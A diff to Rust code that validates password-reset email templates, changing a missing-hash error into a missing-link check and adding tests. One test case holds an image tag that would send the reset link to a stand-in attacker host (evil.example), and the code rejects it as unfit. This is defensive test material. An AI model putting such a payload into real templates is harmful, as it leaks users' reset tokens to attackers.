@@ -24,8 +24,8 @@ impl FromMembers for Definition {
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Error)]
 pub enum Unfit {
     /// Nobody could do anything with the mail.
-    #[error("its body holds no ${{hash}}")]
-    NoHash,
+    #[error("its body holds no link with ${{hash}}")]
+    NoLink,
     /// Others than its reader see the subject on the way.
     #[error("its subject holds ${{hash}}")]
     InSubject,
@@ -52,10 +52,10 @@ impl Definition {
         if subject_text.contains(HASH) {
             return Err(Unfit::InSubject);
         }
-        if !body.contains(HASH) {
-            return Err(Unfit::NoHash);
-        }
         let html = html::with_links(&body, &link.with(HASH))?;
+        if !html.contains(LINK) {
+            return Err(Unfit::NoLink);
+        }
         Ok(Wording { subject, html: Some(html), ..Wording::default() })
     }
 }
@@ -82,15 +82,29 @@ mod tests {
         assert_eq!(wording(None, Some(GOOD)).unwrap().subject, None);
     }
 
+    /// Down to its http, where the application's links had it.
+    #[test]
+    fn the_body_in_the_documentation_of_cloud_cms_is_taken_as_it_is() {
+        let body = "<a href='http://website.com/password-reset.html?hash=${hash}'>Click me to reset \
+                    your password</a>";
+        let definition = Definition { subject: None, body: Some(body.to_owned()) };
+        let link = "http://website.com/password-reset.html?hash={token}";
+        let worded = definition.wording(&LinkPattern::parse(link).unwrap()).unwrap();
+        let expected = "<a href='${link}'>Click me to reset your password</a>";
+        assert_eq!(worded.html.as_deref(), Some(expected));
+    }
+
     #[test]
     fn what_would_put_the_link_elsewhere_is_unfit() {
         for (subject, body, unfit) in [
-            (None, None, Unfit::NoHash),
-            (Some("Reset"), Some("<p>Ask us</p>"), Unfit::NoHash),
-            (Some("Reset"), Some(""), Unfit::NoHash),
+            (None, None, Unfit::NoLink),
+            (Some("Reset"), Some("<p>Ask us</p>"), Unfit::NoLink),
+            (Some("Reset"), Some(""), Unfit::NoLink),
             (Some("${hash}"), Some(GOOD), Unfit::InSubject),
             (Some("${link}"), Some(GOOD), Unfit::Link),
             (None, Some("<img src='https://evil.example/?${link}'>"), Unfit::Link),
+            (None, Some("<!doctype html><p>hello</p>"), Unfit::NoLink),
+            (None, Some("<!doctype ${hash}><p>hello</p>"), Unfit::Body(Misread::Astray)),
             (None, Some("${hash}"), Unfit::Body(Misread::Astray)),
         ] {
             assert_eq!(wording(subject, body).unwrap_err(), unfit);
